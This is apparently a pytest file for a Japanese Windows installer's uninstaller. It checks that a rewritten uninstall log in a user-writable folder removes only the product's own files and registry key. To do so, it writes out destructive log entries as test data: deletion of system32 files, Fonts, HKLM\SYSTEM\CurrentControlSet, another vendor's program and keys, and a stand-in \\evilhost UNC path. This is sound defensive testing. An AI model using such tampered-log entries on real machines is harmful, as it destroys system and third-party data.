"""A product installed into a folder that users can write, its uninstall log
rewritten there to turn the uninstall against the machine, and every question
answered yes: the machine is read before and after (the sandbox's reader), and
only the product's own files and its Uninstall key are gone. The same log left
as the install wrote it removes everything, as it always did."""

import time

import pytest

from conftest import BUILD, MAIN_IDS, install_into, make_distribution, write_cp932
from machine import take_snapshot
from test_uninstall_run import KEPT_FILES, files_of, uninstall_command

TITLE = "テスト製品"
START = "#%d" % MAIN_IDS["btnEvent"]
FOLDER = "C:\\UserApps\\T2"
UNINSTALL = "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall"
OWN_KEY = f"HKLM\\{UNINSTALL}\\TesseraT2"
FOREIGN_KEY = f"HKLM\\{UNINSTALL}\\OtherVendorApp"
CHANGED = ("アンインストール情報が，インストールの後で書き換えられています．\r"
           "このため，インストールフォルダの中にあるファイルとフォルダだけを削除します．\r"
           "それ以外のものは削除せず，終わりに一覧で表示します．")


def install_product(prefix, windriver, setup_program):
    dll = (BUILD / "tests" / "regok.dll").read_bytes()
    dist = make_distribution(prefix, """\
[Title]
Setup=テスト製品
UnSetupKey=TesseraT2
[Extend]
SetupSpeed=1
[CopyFile]
File1=(App)\\APP.EXE
File2=(App)\\読んでね.TXT
File3=(App)\\COMP.DLL,/R
[Registry]
Key1=Software\\TesseraT2
Name1=Path
Value1=(Str)(App)
[DeleteRegistry]
Key1=Software\\TesseraT2
[ProgramID]
ID=TESSERAT2
""", {"APP.EXE": b"MZ" + bytes(100), "読んでね.TXT": "読む\r\n", "COMP.DLL": dll})
    install_into(windriver, setup_program, dist, TITLE, FOLDER)


def reg(prefix, tmp_path, *args):
    assert prefix.run(["reg", *args, "/f"], tmp_path / "reg.out", timeout=120) == 0, args


def plant_another_vendor(prefix, tmp_path):
    """What the rewritten log points at: another vendor's program, folder and keys."""
    vendor = prefix.drive_c / "Program Files" / "OtherVendor"
    vendor.mkdir(parents=True)
    (vendor / "tool.exe").write_bytes(b"MZ other vendor")
    (vendor / "data.ini").write_bytes(b"[Other]\r\nA=1\r\n")
    reg(prefix, tmp_path, "add", "HKLM\\SOFTWARE\\OtherVendor", "/v", "Version", "/d", "7")
    reg(prefix, tmp_path, "add", FOREIGN_KEY, "/v", "DisplayName", "/d", "Other Vendor App")
    # The program type of .exe as Windows has it (this Wine prefix has none).
    reg(prefix, tmp_path, "add", "HKCR\\.exe", "/ve", "/d", "exefile")


def rewrite_log(log, additions, uninstall_key):
    """The log with entries added to its sections (numbered on from the last) and
    its Uninstall key replaced, as a program without rights could write it."""
    sections, order = {}, []
    for line in log.read_bytes().decode("cp932").splitlines():
        if line.startswith("["):
            order.append(line[1:line.index("]")])
            sections[order[-1]] = []
        elif order and "=" in line:
            sections[order[-1]].append(tuple(line.split("=", 1)))
    for section, prefix, values in additions:
        if section not in sections:
            order.append(section)
            sections[section] = []
        entries = sections[section]
        for value in values:
            entries.append((f"{prefix}{len(entries) + 1}", value))
    sections["UnSetupRegistryKey"] = [("Key", uninstall_key)]
    write_cp932(log, "".join(f"[{s}]\n" + "".join(f"{k}={v}\n" for k, v in sections[s]) for s in order))


def snapshot(prefix):
    prefix.stop_server()
    try:
        return take_snapshot(prefix.path)
    finally:
        prefix.start_server()


def wait_for_box(windriver, caption, starts, timeout=60):
    """The message box with this caption whose text starts so (another of the same caption may still be closing)."""
    deadline = time.monotonic() + timeout
    while True:
        boxes = windriver("msgbox", caption, "--timeout", "30000")
        if boxes and boxes[0]["text"].startswith(starts):
            return boxes[0]
        assert time.monotonic() < deadline, f"no 「{caption}」 box starting {starts!r}: {boxes}"
        time.sleep(0.3)


def ordinary(path):
    """Not the temporary folders, where the programs' work folders come and go."""
    lower = path.lower()
    return "\\temp\\" not in lower + "\\" and not lower.startswith("c:\\dist")


@pytest.mark.parametrize("tampered", [True, False], ids=["rewritten log", "untouched log"])
def test_a_rewritten_log_removes_only_the_products_own_files_and_key(prefix, windriver, setup_program, screenshot,
                                                                      tmp_path, tampered):
    before_install = files_of(prefix)
    install_product(prefix, windriver, setup_program)
    uninstaller, log_path = uninstall_command(prefix, tmp_path)
    assert log_path == FOLDER + "\\UNSETUP.INI"
    install = prefix.drive_c / "UserApps" / "T2"
    system32 = prefix.drive_c / "windows" / "system32"
    a_files = sorted(p.name for p in system32.glob("a*") if p.is_file())
    assert len(a_files) > 5
    if tampered:
        plant_another_vendor(prefix, tmp_path)
        rewrite_log(install / "UNSETUP.INI", [
            ("DeleteFile", "File", ["C:\\Program Files\\OtherVendor\\tool.exe", "\\\\evilhost\\share\\evil.dll,/R",
                                    "C:\\windows\\system32\\a*"]),
            ("AddDeleteFile", "File", ["C:\\windows\\system32\\a*", "C:\\windows\\Fonts\\*",
                                       "C:\\Program Files\\OtherVendor\\*.*"]),
            ("DeleteFolder", "Folder", ["C:\\Program Files\\OtherVendor\\"]),
            ("DeleteRegistry", "Key", ["(Local)SYSTEM\\CurrentControlSet", "(Class)exefile",
                                       "(Local)SOFTWARE\\OtherVendor", f"(Local){UNINSTALL}\\OtherVendorApp"]),
            ("RestoreRelate", "Key", ["exe,txtfile"]),
        ], f"{UNINSTALL}\\OtherVendorApp")
    before = snapshot(prefix)

    program = prefix.start([uninstaller, log_path], tmp_path / "uninstall.out")
    windriver("wait", TITLE, "--timeout", "30000")
    windriver("press", TITLE, START)
    if tampered:
        box = wait_for_box(windriver, "警告", "アンインストール情報が，")
        assert box["text"] == CHANGED
        screenshot("changed-log")
        windriver("press", "警告", "OK")
        wait_for_box(windriver, "警告", "アンインストールの過程で，一部の処理が失敗しました．")
        windriver("press", "警告", "はい(Y)")
        deadline = time.monotonic() + 30
        while True:
            controls = {c["id"]: c for c in windriver("controls", TITLE)}
            if controls[MAIN_IDS["btnEvent"]]["text"] == "続行(&C)" and controls[MAIN_IDS["btnEvent"]]["enabled"]:
                break
            assert time.monotonic() < deadline, "no failure report"
            time.sleep(0.3)
        report = controls[MAIN_IDS["txtReadme"]]["text"]
        screenshot("report")
        windriver("press", TITLE, START)
    done = wait_for_box(windriver, "完了", "アンインストールを完了しました．")
    assert done["text"] == "アンインストールを完了しました．"
    windriver("press", "完了", "OK")
    assert program.wait(60) == 0
    after = snapshot(prefix)

    removed_files = {p for p in before.files if p not in after.files and ordinary(p)}
    added_files = {p for p in after.files if p not in before.files and ordinary(p)}
    removed_keys = {before.registry[k].path for k in before.registry if k not in after.registry}
    assert added_files == set()
    assert not (install / "UNSETUP.INI").exists() and not install.exists()
    product = {FOLDER, FOLDER + "\\APP.EXE", FOLDER + "\\読んでね.TXT", FOLDER + "\\COMP.DLL", FOLDER + "\\UNSETUP.INI"}
    if not tampered:
        assert removed_files == product
        # The parent folder the install made for its folder is no recorded folder: it stays, as it always did.
        assert files_of(prefix) - before_install == KEPT_FILES | {"UserApps"}
        assert {k.lower() for k in removed_keys} == {OWN_KEY.lower(), "hkcu\\software\\tesserat2"}
        return

    assert removed_files == product, sorted(removed_files ^ product)
    assert {k.lower() for k in removed_keys} == {OWN_KEY.lower()}, sorted(removed_keys)
    assert sorted(p.name for p in system32.glob("a*") if p.is_file()) == a_files
    for key in ("hklm\\system\\currentcontrolset", "hklm\\software\\classes\\exefile", "hklm\\software\\othervendor",
                FOREIGN_KEY.lower(), "hkcu\\software\\tesserat2"):
        assert key in after.registry, key
    exe = "hklm\\software\\classes\\.exe"
    assert after.registry[exe].values[""].data == before.registry[exe].values[""].data == "exefile"
    for leftover in ("<File> C:\\Program Files\\OtherVendor\\tool.exe\r\nインストールフォルダの外にあるため，削除しませんでした．",
                     "<File> C:\\windows\\system32\\a*\r\n", "<File> C:\\windows\\Fonts\\*\r\n",
                     "<File> C:\\Program Files\\OtherVendor\\*.*\r\n", "<Folder> C:\\Program Files\\OtherVendor\\\r\n",
                     "<Registry> (Local)SYSTEM\\CurrentControlSet\r\nアンインストール情報が確かめられないため，削除しませんでした．",
                     "<Registry> (Class)exefile\r\n", "<Registry> (Local)SOFTWARE\\OtherVendor\r\n",
                     f"<Registry> (Local){UNINSTALL}\\OtherVendorApp\r\n", "<Registry> Software\\TesseraT2\r\n",
                     "<Registry> (Class).exe\r\nアンインストール情報が確かめられないため，関連付けを戻しませんでした．",
                     "<IniFile> C:\\windows\\TESSREG.INI [TESSERAT2]\r\n"):
        assert leftover in report, f"{leftover!r} not in\n{report}"
    assert "<File> \\\\evilhost\\share\\evil.dll\r\nインストールフォルダの外にあるため" in report
